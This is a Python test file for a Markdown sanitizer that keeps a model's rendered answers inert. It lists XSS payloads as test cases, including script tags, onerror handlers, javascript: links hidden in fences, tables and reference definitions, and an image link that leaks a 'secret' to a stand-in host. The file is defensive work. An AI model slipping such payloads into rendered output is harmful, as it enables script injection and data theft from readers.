"""A model's answer may be read and never acts."""

from __future__ import annotations

from html.parser import HTMLParser

import mistune
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentkit.notebook.markdown import harmless

PARSE = mistune.create_markdown(
    renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True), plugins=["table", "strikethrough"]
)
INERT = frozenset(
    "a p br hr h1 h2 h3 h4 h5 h6 ul ol li pre code em strong del blockquote table thead tbody tr th td".split()
)


class Acting(HTMLParser):
    """Finds what a browser would act on: foreign tags, handlers, script links."""

    found = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        scripted = any((value or "").strip().lower().startswith(("javascript:", "data:")) for _, value in attrs)
        self.found |= tag not in INERT or scripted or any(name.startswith("on") for name, _ in attrs)


def acts(text: str) -> bool:
    """Whether a Markdown parser that lets everything through makes something of `text` that could act."""
    parser = Acting()
    parser.feed(str(PARSE(text)))
    return parser.found


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "a <img src=x onerror=alert(1)> b",
        "![logo](https://elsewhere.example/?q=secret)",
        "[click](javascript:alert(1))",
        "[click]( <javascript:alert(1)>)",
        "[click][r]\n\n[r]: javascript:alert(1)",
        "> [r]: javascript:alert(1)\n\n[r]",
        "- a\n\n  ```\n<script>alert(1)</script>",
        "- ```\n<script>alert(1)</script> ```",
        "a `\nb` <script>alert(1)</script> `c`",
        "~~~ `x`\n```\n~~~\n<script>alert(1)</script>\n```",
        "  ~~~\n```\n  ~~~\n<script>alert(1)</script>\n```",
        "| a | b |\n|---|---|\n| ` | <script>alert(1)</script> ` |",
    ],
)
def test_what_could_act_is_shown_as_text(text: str) -> None:
    assert not acts(harmless(text))


def test_the_check_itself_sees_what_acts() -> None:
    assert acts("<script>alert(1)</script>") and acts("[click](javascript:alert(1))") and acts("![a](https://b.c)")
    assert not acts("`<b>` and [a page](https://example.org)")


def test_ordinary_markdown_stays_as_it_is() -> None:
    text = "# Title\n\n- **bold** and [a page](https://example.org)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$x > y$"
    assert harmless(text) == text


def test_code_keeps_its_angle_brackets() -> None:
    text = "Use `a < b`:\n\n```python\nif a < b:\n    print('<b>')\n```\n"
    assert harmless(text) == text


PIECES = st.sampled_from(
    [
        "`",
        "``",
        "```",
        "~~~",
        "<script>",
        "</script>",
        "<img src=x onerror=y>",
        "![a](",
        "[a](",
        "javascript:",
        ")",
        "\n",
        "\n\n",
        "  ",
        "    ",
        "> ",
        "- ",
        "1. ",
        "|",
        "---",
        "a",
        "\\",
        "[r]: ",
        "[r]",
        "html",
        "&#58;",
        "<",
        "\t",
    ]
)


@settings(max_examples=600, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_no_mixture_of_markdown_acts(text: str) -> None:
    assert not acts(harmless(text))
